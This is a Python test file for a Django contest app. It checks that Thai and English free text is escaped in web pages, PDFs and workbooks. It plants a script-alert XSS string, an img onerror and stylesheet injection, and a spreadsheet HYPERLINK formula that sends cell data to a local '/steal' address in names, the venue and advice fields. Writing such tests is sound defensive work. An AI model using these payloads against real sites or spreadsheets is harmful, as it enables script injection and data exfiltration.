"""Free text people type — Thai or English, with HTML, script or spreadsheet formulas in it — comes
out as the same text in every page, PDF and workbook, and never as markup, script, a fetch or a formula.

One contest carries the payloads everywhere a user can type: the network's, group's and product's
names, the venue, a member's advice and the officer's reason for the selection. Pages are read as
each persona sees them; the PDFs are printed for real while a server on 127.0.0.1 counts every
request that reaches it (none may); the workbooks are opened with openpyxl.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from contests import documents, scoring, services, workflow
from contests.enums import ContestState
from contests.tests.factories import contest_with_panel
from kbo.core.excel import FORMULA_PREFIXES

SCRIPT = "<script>alert('kbo')</script>"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?c="&A1,"ดูผล")'


@pytest.fixture
def beacon():
    """A web server on 127.0.0.1 that records every request it gets."""
    hits = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()


@pytest.fixture
def scored(ubon_officer, beacon):
    """A contest whose free text is hostile, scoring open, every member's scorecards submitted."""
    address, _ = beacon
    tag = f'"><img src="{address}/img" onerror="alert(1)"><link rel="stylesheet" href="{address}/css">'
    contest = contest_with_panel(members=3, entries=2, venue=f"ศาลากลาง {SCRIPT}")
    contest.network.name = f"เครือข่าย KBO {tag}"
    contest.network.save()
    entries = list(contest.entries.order_by("presentation_order"))
    for index, entry in enumerate(entries):
        entry.group.name = f"กลุ่มทอผ้า {index} {SCRIPT}"
        entry.group.save()
        entry.product.name = FORMULA if index else f"ผ้าไหม {tag}"
        entry.product.save()
    criterion = contest.rounds.get().rubric.criteria.get()
    for juror in contest.jurors.all():
        for entry in entries:
            advice = f"</textarea>{SCRIPT} ควรปรับปรุง" if juror.seat == 1 else FORMULA
            scoring.save_scorecard(juror.user, entry.pk, {str(criterion.pk): "15"}, advice, submit=True)
    return contest


@pytest.fixture
def hostile(scored, ubon_officer):
    """The same contest finished: scoring closed, both entries shortlisted, entry 1 selected."""
    contest = scored
    entries = list(contest.entries.order_by("presentation_order"))
    workflow.advance(contest, ContestState.SCORING_CLOSED, by=ubon_officer)
    services.record_shortlist(contest, entries, by=ubon_officer)
    services.select_winners(contest, [entries[1]], f"เหตุผล {SCRIPT}", by=ubon_officer)
    contest.refresh_from_db()
    return contest


ESCAPED = ("&lt;script&gt;alert(", "\\u003Cscript\\u003Ealert(", "&lt;img src=", "\\u003Cimg src=")


def assert_shown_as_text(content):
    """No payload is markup, and at least one is there as text (the page does show the free text)."""
    assert "<script>alert(" not in content
    assert "<img src=" not in content and 'onerror="alert' not in content
    assert any(escaped in content for escaped in ESCAPED)


def test_pages_show_hostile_text_as_text(client, hostile, ubon_officer):
    entry = hostile.entries.order_by("presentation_order")[0]
    officer_pages = [
        hostile.get_absolute_url(),
        reverse("networks:network_detail", args=[hostile.network.pk]),
        reverse("products:group_list"),
        reverse("products:group_detail", args=[entry.group.pk]),
        reverse("products:product_detail", args=[entry.product.pk]),
        reverse("contests:entry_detail", args=[entry.pk]),
        reverse("contests:ranking", args=[hostile.rounds.get().pk]),
        reverse("contests:feedback", args=[entry.pk]),
        reverse("contests:meeting", args=[hostile.pk]),
    ]
    client.force_login(ubon_officer)
    for url in officer_pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_shown_as_text(response.content.decode())



def test_scoring_pages_show_hostile_text_as_text(client, scored):
    entry = scored.entries.order_by("presentation_order")[0]
    client.force_login(scored.jurors.get(seat=1).user)
    for url in (reverse("contests:score_home", args=[scored.pk]), reverse("contests:score_entry", args=[entry.pk])):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_shown_as_text(response.content.decode())


def test_pdfs_print_hostile_text_and_fetch_nothing(client, hostile, ubon_officer, beacon):
    _, hits = beacon
    client.force_login(ubon_officer)
    for url in (
        reverse("contests:score_sheets_pdf", args=[hostile.pk]),
        reverse("contests:ranking_pdf", args=[hostile.rounds.get().pk]),
        reverse("contests:record_pdf", args=[hostile.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "application/pdf"
    assert hits == []


def test_pdf_html_escapes_hostile_text(hostile):
    printed = [
        documents.score_sheets(hostile, documents.sheet_jurors(hostile)),
        documents.ranking_sheet(hostile.rounds.get()),
        documents.selection_record(hostile),
    ]
    for document in printed:
        assert_shown_as_text(documents.render_html(document))


def test_workbooks_hold_formulas_as_text(client, hostile, ubon_officer):
    entry = hostile.entries.order_by("presentation_order")[1]
    client.force_login(ubon_officer)
    for url in (
        reverse("contests:scores_xlsx", args=[hostile.pk]),
        reverse("contests:feedback_xlsx", args=[entry.pk]),
        reverse("networks:committee_members_xlsx", args=[hostile.jurors.get(seat=1).member.committee_id]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        workbook = load_workbook(BytesIO(response.content))
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
        risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)]
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky), url
    workbook = load_workbook(BytesIO(client.get(reverse("contests:scores_xlsx", args=[hostile.pk])).content))
    assert FORMULA in [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
